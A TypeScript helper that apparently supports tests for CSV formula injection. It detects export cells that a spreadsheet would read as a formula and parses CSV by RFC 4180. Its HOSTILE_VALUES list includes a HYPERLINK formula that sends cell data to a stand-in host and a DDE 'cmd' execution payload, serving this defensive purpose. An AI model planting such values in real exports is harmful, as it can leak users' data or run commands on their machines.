/**
 * How a spreadsheet could read an export: split on `,`, `;` or a tab (the separator depends on the
 * locale: a decimal-comma one takes `;`), naively, ignoring the quotes, as a reader that gets the
 * quoting wrong would; and properly, by RFC 4180, to check nothing was lost.
 */

/** What a cell that a spreadsheet would take for a formula starts with (OWASP's list, and full-width forms). */
export const FORMULA_CHARACTERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
export const SEPARATORS = [",", ";", "\t"];

/**
 * Every piece of the text that would start a cell with a formula character, in any locale's split:
 * each line (a reader that ignores the quotes breaks lines inside them too) split on each separator,
 * each piece past the spaces and double quotes a reader drops. Empty: the export is safe.
 */
export function formulaSegments(text: string): Array<{ separator: string; segment: string }> {
  const found: Array<{ separator: string; segment: string }> = [];
  for (const separator of SEPARATORS) {
    for (const line of text.split(/\r\n|\n|\r/)) {
      for (const segment of line.split(separator)) {
        const start = segment.replace(/^[ \u00a0"]+/, "");
        if (FORMULA_CHARACTERS.some((c) => start.startsWith(c))) found.push({ separator, segment });
      }
    }
  }
  return found;
}

/** RFC 4180, with `,`: rows of cells, and whether every cell was quoted. */
export function parseCsv(text: string): { rows: string[][]; allQuoted: boolean } {
  const rows: string[][] = [];
  let row: string[] = [];
  let allQuoted = true;
  let i = 0;
  while (i < text.length) {
    let cell = "";
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error("an unterminated quoted cell");
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else cell += text[i++];
      }
    } else {
      allQuoted = false;
      while (i < text.length && !",\r\n".includes(text[i]!)) cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ",") i += 1;
    else {
      if (text.startsWith("\r\n", i)) i += 2;
      else if (i < text.length) throw new Error(`an unexpected ${JSON.stringify(text[i])} after a cell`);
      rows.push(row);
      row = [];
    }
  }
  return { rows, allQuoted };
}

/** Values a visitor could send, each meant to run as a formula in some spreadsheet. */
export const HOSTILE_VALUES = [
  // Excel in a decimal-comma locale splits it on `;`: a live =HYPERLINK in the third cell.
  "x;https://evil.example/?;=HYPERLINK(B2&A3&A4&A5);",
  '=HYPERLINK("http://x.example","click")',
  "+1 (555) 0100",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "a,=1+1, +2 ;-3\t@4",
  'a, "=1+1"',
  "line one\n=1+1\r\n- a list\n  @mention",
  "\uff1d1+1 and ;\uff0b1",
  'x; " \u00a0=1+1',
  "a\t\t=1",
];
